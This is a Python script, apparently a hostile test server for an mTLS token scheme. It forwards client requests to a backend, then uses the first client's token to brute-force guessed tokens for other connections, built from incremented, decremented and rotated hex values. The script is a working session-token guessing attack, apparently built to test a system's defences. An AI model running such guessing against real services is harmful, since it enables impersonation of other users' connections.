"""A server that judges its clients well, and from its first request on tells the backend of others.

It guesses the tokens of connections that it has not seen from one that it has: by counting on any
number in it, and by the same digits in another order.
"""
import re
import socket
import ssl
import sys
import threading

import tls_service

port, cert, key, client_ca, backend_host, backend_port = sys.argv[1:]
ROUNDS, CELLS, CONNECTIONS = 15, 150, 3


def guesses(token):
    parts = re.split("([^0-9a-f])", token)
    if len(parts) >= 5:
        for cell in range(CELLS):
            for connection in range(CONNECTIONS):
                yield f"{parts[0]}{parts[1]}{cell:x}{parts[3]}{connection:x}"
    number = int(re.sub("[^0-9a-f]", "", token), 16)
    for step in range(1, CELLS):
        yield f"{(number + step) % 16 ** len(token):0{len(token)}x}"
        yield f"{(number - step) % 16 ** len(token):0{len(token)}x}"
    for turn in range(1, len(token)):
        yield token[turn:] + token[:turn]


def accuse(token):
    with socket.create_connection((backend_host, int(backend_port))) as backend:
        for _ in range(ROUNDS):
            for guess in guesses(token):
                backend.sendall(f"GET / HTTP/1.1\r\nHost: x\r\nx-mtlspec-token: {guess}\r\n\r\n"
                                .encode())
                backend.recv(65536)


def forward(request):
    with socket.create_connection((backend_host, int(backend_port))) as backend:
        backend.sendall(request)
        return b"".join(iter(lambda: backend.recv(65536), b""))


def answer(tls, request):
    tls.sendall(forward(request))
    token = tls_service.token_of(request)
    if begun.acquire(blocking=False):
        threading.Thread(target=accuse, args=(token,), daemon=True).start()


begun = threading.Lock()
tls_service.serve(port, tls_service.context_of(cert, key, client_ca, ssl.CERT_REQUIRED), answer)
